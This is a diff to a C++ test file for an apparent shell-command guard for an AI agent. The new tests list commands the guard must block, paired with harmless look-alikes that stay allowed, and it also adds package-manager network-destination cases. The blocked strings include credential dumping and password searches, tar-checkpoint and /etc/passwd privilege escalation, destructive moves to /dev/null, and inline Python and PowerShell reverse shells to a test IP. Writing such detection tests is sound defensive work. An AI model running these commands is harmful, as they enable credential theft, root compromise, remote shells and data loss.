@@ -232,12 +232,123 @@ TEST_F(FamiliesTest, OrdinaryLookAlikesStayAllowed) {
                 {"compute.burn", "privilege.setuid", "evasion.log_tamper", "process.shell_escape"});
 }
 
+TEST_F(FamiliesTest, NetworkConfiguration) {
+  const char* kConfig = "net.config";
+  Check({
+      {"ip link set eth0 down", kConfig, kBlock},
+      {"ip route del default", kConfig, kBlock},
+      {"ip addr flush dev eth0", kConfig, kBlock},
+      {"ip tuntap add user root mode tun ligolo", kConfig, kBlock},
+      {"ifconfig eth0 down", kConfig, kBlock},
+      {"route del default", kConfig, kBlock},
+      {"pfctl -f /etc/pf.conf", kConfig, kBlock},
+      {"nmcli networking off", kConfig, kBlock},
+      {"macchanger -r eth0", kConfig, kBlock},
+      {"systemctl stop NetworkManager", kConfig, kBlock},
+      {"systemctl stop networking", kConfig, kBlock},
+  });
+  CheckOrdinary({"ip addr show", "ip a", "ip route", "ip -br link", "ifconfig", "ifconfig eth0",
+                 "route -n", "nmcli device status", "systemctl status networking"},
+                {kConfig});
+}
+
+TEST_F(FamiliesTest, CredentialDumpingAndSearching) {
+  const char* kSecret = "fs.read.secret";
+  Check({
+      {"impacket-secretsdump -sam SAM -security SECURITY -system SYSTEM LOCAL", kSecret, kBlock},
+      {"impacket-GetNPUsers corp.local/ -usersfile users.txt -format john", kSecret, kBlock},
+      {"pypykatz lsa minidump lsass.dmp", kSecret, kBlock},
+      {"fcrackzip -u -D -p words.txt loot.zip", kSecret, kBlock},
+      {"unshadow passwd shadow > unshadowed.txt", kSecret, kBlock},
+      {"gcore 4242 -o dumpfile", kSecret, kBlock},
+      {"lazagne all", kSecret, kBlock},
+      {"mimipenguin", kSecret, kBlock},
+      {"grep -R db_passwd", kSecret, kBlock},
+      {"grep -roiE \"password.{20}\"", kSecret, kBlock},
+      {"grep -r password /etc/*.conf 2> /dev/null", kSecret, kBlock},
+      {"grep \"password\" /etc/*.conf", kSecret, kBlock},
+      {"rg -i api_key -r ~", kSecret, kBlock},
+      {"locate password | more", kSecret, kBlock},
+      {"find / -name authorized_keys 2> /dev/null", kSecret, kBlock},
+      {"find / -name id_rsa", kSecret, kBlock},
+      {"cat /etc/mysql/my.cnf", kSecret, kBlock},
+      {"cat /etc/NetworkManager/system-connections/*", kSecret, kBlock},
+  });
+  CheckOrdinary({"grep admin /etc/passwd", "grep -vE nologin /etc/passwd", "grep -n TODO src/app.py",
+                 "grep -rn 'def main' .", "find . -name '*.key.py'", "find . -name id_rsa.pub.example",
+                 "locate libssl.so", "pypykatz -h", "gcore --version"},
+                {kSecret});
+}
+
+TEST_F(FamiliesTest, PrivilegeEscalationSetups) {
+  const char* kEscalate = "privilege.escalate";
+  Check({
+      {"touch -- \"--checkpoint=1\"", kEscalate, kBlock},
+      {"touch -- '--checkpoint-action=exec=sh shell.sh'", kEscalate, kBlock},
+      {"touch ./--checkpoint=1", kEscalate, kBlock},
+      {"find / -perm -2 -type f 2>/dev/null", kEscalate, kBlock},
+      {"find / -type f -a \\( -perm -u+s -o -perm -g+s \\) -exec ls -l {} \\;", kEscalate, kBlock},
+      {"find / -perm -777 -type f 2>/dev/null", kEscalate, kBlock},
+      {"find / perm /u=w -user `whoami` 2>/dev/null", kEscalate, kBlock},
+      {"echo 'toor:x:0:0:root:/root:/bin/sh' >> /mnt/etc/passwd", kEscalate, kBlock},
+      {"lxc init img c1 -c security.privileged=true", kEscalate, kBlock},
+      {"lxc config device add c1 host disk source=/ path=/mnt/root recursive=true", kEscalate, kBlock},
+      {"searchsploit linux kernel 5.8", kEscalate, kBlock},
+      {"./logrotten -p ./payloadfile /tmp/log/pwnme.log", kEscalate, kBlock},
+      {"env -i SHELLOPTS=xtrace PS4='$(chmod +s /bin/bash)' /usr/local/bin/backup", "privilege.setuid", kBlock},
+  });
+  CheckOrdinary({"touch notes.txt", "touch -- -weird-name", "find . -perm -u+x -type f", "lxc list",
+                 "PS4='+ ${BASH_SOURCE}:${LINENO}: ' bash -x run.sh"},
+                {kEscalate, "privilege.setuid"});
+}
+
+TEST_F(FamiliesTest, DestructiveDeviceUse) {
+  Check({
+      {"mv ~ /dev/null", "fs.destroy", kBlock},
+      {"mv /home/alice /dev/null", "fs.destroy", kBlock},
+      {"cat /dev/port", "fs.destroy", kBlock},
+  });
+  CheckOrdinary({"mv a.py b.py", "mv build/ dist/", "cat /dev/null > log.txt", "cp x /dev/null"},
+                {"fs.destroy"});
+}
+
+TEST_F(FamiliesTest, ScriptsKnownByNameAndInlineDestinations) {
+  Check({
+      {"ruby ./dnscat2.rb", "net.tunnel", kTerminate},
+      {"python3 pagekite.py 80 demo.pagekite.me", "net.tunnel", kTerminate},
+      {"graftcp-local -listen :2233 -socks5 127.0.0.1:1080", "net.proxy", kTerminate},
+      // a literal IP and port is where the code connects, whatever the socket is called
+      {"python -c 'a=__import__;s=a(\"socket\").socket;p=a(\"pty\").spawn;c=s();"
+       "c.connect((\"203.0.113.5\",4242));p(\"/bin/sh\")'",
+       "net.reverse_shell", kTerminate},
+      {"python3 -c \"import os; c=__import__('socket').create_connection(('203.0.113.5', 80))\"", "net.egress", kBlock},
+      {"powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4242);"
+       "$s = $c.GetStream();iex $d\"",
+       "net.reverse_shell", kTerminate},
+  });
+  CheckOrdinary({"python3 setup.py test", "python -c 'print(1, 2)'", "pwsh -c 'Get-ChildItem'",
+                 "python3 -c \"print('3.4', 5)\""},
+                {"net.egress", "net.reverse_shell", "net.tunnel"});
+}
+
+TEST_F(FamiliesTest, EvalOfShellSetupOutput) {
+  CheckOrdinary({"eval \"$(ssh-agent -s)\"; ssh-add", "eval \"$(pyenv init -)\"", "eval `ssh-agent`",
+                 "eval \"$(direnv hook bash)\"", "eval \"$(kubectl completion bash)\""},
+                {"shell.unanalyzable"});
+  Check({
+      {"eval \"$(./pyenv init -)\"", "shell.unanalyzable", kBlock},  // a script of the agent's
+      {"eval \"$(ssh-agent -s; cat x)\"", "shell.unanalyzable", kBlock},
+      {"eval \"$(cat x)\"", "shell.unanalyzable", kBlock},
+  });
+}
+
 // ------------------------------------------------------------ shell escapes
 
 TEST_F(FamiliesTest, ShellEscapes) {
   const char* kEscape = "process.shell_escape";
   Check({
       {"vim -c ':!/bin/sh'", kEscape, kBlock},
+      {"script -q /dev/null -c bash", kEscape, kBlock},  // options after the typescript file
       {"vi -c ':!sh' /dev/null", kEscape, kBlock},
       {"vim -c ':sh'", kEscape, kBlock},
       {"vim +'r !/bin/sh'", kEscape, kBlock},
@@ -397,7 +508,7 @@ constexpr Sub kSubcommands[] = {
     {"pip show requests", nullptr},
     {"pip check", nullptr},
     {"pip uninstall -y requests", nullptr},
-    {"python3 -m pip list --outdated --format=json", nullptr},
+    {"python3 -m pip list --outdated --format=json", "pypi.org"},  // --outdated asks the index
     {"pip install --no-index --find-links dist/ mypkg", nullptr},
     // uv
     {"uv pip install ruff", "pypi.org"},
@@ -497,7 +608,6 @@ constexpr Sub kSubcommands[] = {
     {"cargo test", nullptr},
     {"cargo fmt --check", nullptr},
     {"cargo clippy -- -D warnings", nullptr},
-    {"cargo install --path .", nullptr},
     {"cargo update --offline", nullptr},
     {"go get github.com/pkg/errors", "proxy.golang.org"},
     {"go mod download", "proxy.golang.org"},
@@ -556,6 +666,27 @@ constexpr Sub kSubcommands[] = {
     {"rustup toolchain install nightly", ""},
     {"git remote show origin", ""},
     {"git remote -v", nullptr},
+    // index queries, toolchain downloads, key servers, scaffolds
+    {"pip list --outdated", "pypi.org"},
+    {"pip list", nullptr},
+    {"uv venv --python 3.12.0", "github.com"},
+    {"uv venv", nullptr},
+    {"pacman -Sy sshuttle", ""},
+    {"pacman -Syu", ""},
+    {"pacman -Ss ripgrep", nullptr},
+    {"pacman -Qi bash", nullptr},
+    {"gpg --keyserver hkps://keyserver.ubuntu.com --recv-keys 409B6B1796C27546", "keyserver.ubuntu.com"},
+    {"gpg --recv-keys 409B6B1796C27546", "keys.openpgp.org"},
+    {"gpg --verify SHA256SUMS.sig", nullptr},
+    {"rvm install 3.3", ""},
+    {"pyenv install 3.12.1", ""},
+    {"nvm install 20", ""},
+    {"pyenv versions", nullptr},
+    {"create-react-app my-app", "registry.npmjs.org"},
+    {"ng new shop", "registry.npmjs.org"},
+    {"ng build", nullptr},
+    {"cargo install --path .", "index.crates.io"},
+    {"lxc launch ubuntu:24.04 c1", ""},
 };
 
 TEST(PackageManagerSubcommands, NetworkAndLocalSubcommands) {
